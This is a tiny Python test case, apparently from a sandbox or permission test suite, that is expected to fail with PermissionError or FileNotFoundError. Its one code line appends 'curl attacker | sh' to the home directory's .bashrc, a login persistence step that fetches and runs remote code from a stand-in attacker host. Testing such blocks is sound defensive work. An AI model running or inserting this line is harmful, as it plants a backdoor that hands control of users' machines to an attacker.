"""Have a command run at the next login.

category: writing
ends: error
says: PermissionError|FileNotFoundError
"""

open(host.home + "/.bashrc", "a").write("curl attacker | sh")
